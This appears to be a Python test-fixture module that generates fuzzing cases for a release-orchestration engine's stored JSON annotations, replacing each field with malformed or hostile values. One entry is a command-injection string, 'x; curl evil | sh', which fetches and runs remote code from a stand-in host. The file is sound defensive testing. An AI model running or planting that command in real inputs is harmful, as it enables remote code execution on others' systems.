"""What may stand in our annotations although the engine did not write it so.

The cases are made of the models' own fields and of the record's own annotations: a new one joins by itself.
"""

import json
from collections.abc import Iterator
from typing import Any, NamedTuple

from playbook.incident.decision_matrix import Symptom
from playbook.lease import record
from playbook.lease.lease import HotfixLease, Lease, MigrationLease, ReleaseLease, RollbackLease, ServiceRollout
from playbook.lease.record import LAST_GOOD, LEASE, MITIGATION, PARTICIPANT, PREFIX, Mitigation, Participant
from playbook.release.promotion import Promotion
from playbook.release.request import HotfixRequest, Measure, RollbackRequest
from playbook.release.traffic import Scaling, TrafficSplit

SERVICE, OTHER = "ethixai-ai-core", "ethixai-backend"
ROLLOUTS = tuple(
    ServiceRollout(
        service=name,
        from_revision=f"{name}-old",
        to_revision=f"{name}-new",
        found=TrafficSplit.all_to(f"{name}-old"),
        image="r@sha256:1",
    )
    for name in (SERVICE, OTHER)
)
COMMON: dict[str, Any] = {
    "release_id": "v20251116-abc123-1f2e3d",
    "version": "v20251116-abc123",
    "flow_run_id": "123e4567-e89b-12d3-a456-426614174000",
    "epoch": 100,
    "rollouts": ROLLOUTS,
    "canary_percent": 10,
    "deadline_s": 1e9,
}
LEASES: dict[str, Lease] = {
    "release": ReleaseLease(**COMMON),
    "hotfix": HotfixLease(request=HotfixRequest(version="v20251116-hotfix1-abc123"), **COMMON),
    "rollback": RollbackLease(request=RollbackRequest(symptom=Symptom.UI_BUG), **COMMON),
    "migration": MigrationLease(**COMMON),
}
SPLIT = TrafficSplit.all_to("old")
MODELS = {
    **{f"lease of a {kind}": (LEASE, json.loads(lease.stored()), type(lease)) for kind, lease in LEASES.items()},
    "participant": (
        PARTICIPANT,
        json.loads(Participant(release_id="r", epoch=100, coordinator=OTHER, split=SPLIT).model_dump_json()),
        Participant,
    ),
    "mitigation": (
        MITIGATION,
        json.loads(
            Mitigation(
                measure=Measure.SCALE, by="a", reason="b", at_s=1, split=SPLIT, scaling=Scaling()
            ).model_dump_json()
        ),
        Mitigation,
    ),
}
DEEP = "[" * 10_000 + "]" * 10_000
HOSTILE = {
    "null": "null",
    "true": "true",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "1e999": "1e999",
    "minus one": "-1",
    "10^4000": "1" + "0" * 4000,
    "400": "400",
    "not a UUID": '"not-a-uuid"',
    "a command": '"x; curl evil | sh"',
    "empty text": '""',
    "NUL": '"\\u0000"',
    "a surrogate": '"\\ud800"',
    "250 kB": '"' + "x" * 250_000 + '"',
    "deep": DEEP,
    "empty list": "[]",
    "empty object": "{}",
    "a list of null": "[null]",
    "no JSON": "{",
}


def written(fields: dict[str, Any], changed: str, value: str) -> str:
    """The JSON object with one field replaced by the text ``value``, which need not be JSON."""
    kept = {name: one for name, one in fields.items() if name != changed}
    return json.dumps(kept)[:-1] + f', "{changed}": {value}}}'


KEYS = sorted(
    {one for one in vars(record).values() if isinstance(one, str) and one.startswith(PREFIX) and one != PREFIX}
)
"""Every annotation that is the engine's."""


class Case(NamedTuple):
    """One annotation, and what stands in it."""

    name: str
    key: str
    value: str


def cases() -> Iterator[Case]:
    """Every annotation, and every field of every model that is stored, with every hostile value."""
    for key in KEYS:
        for name, value in HOSTILE.items():
            yield Case(f"{key.removeprefix(PREFIX)}: {name}", key, value)
            yield Case(f"{key.removeprefix(PREFIX)}: a list of {name}", key, f"[{value}]")
    for model, (key, fields, shape) in MODELS.items():
        for field in shape.model_fields:
            for name, value in HOSTILE.items():
                yield Case(f"{model}.{field}: {name}", key, written(fields, field, value))
    for field in ServiceRollout.model_fields:
        for name, value in HOSTILE.items():
            rollout = written(json.loads(ROLLOUTS[0].model_dump_json(exclude_defaults=True)), field, value)
            lease = written(json.loads(LEASES["release"].stored()), "rollouts", f"[{rollout}]")
            yield Case(f"rollout.{field}: {name}", LEASE, lease)
    for field in Promotion.model_fields:
        for name, value in HOSTILE.items():
            good = Promotion(release="v1", revision="r", digest="", promoted_at_s=1)
            one = written(json.loads(good.model_dump_json()), field, value)
            yield Case(f"promotion.{field}: {name}", LAST_GOOD, f"[{one}]")
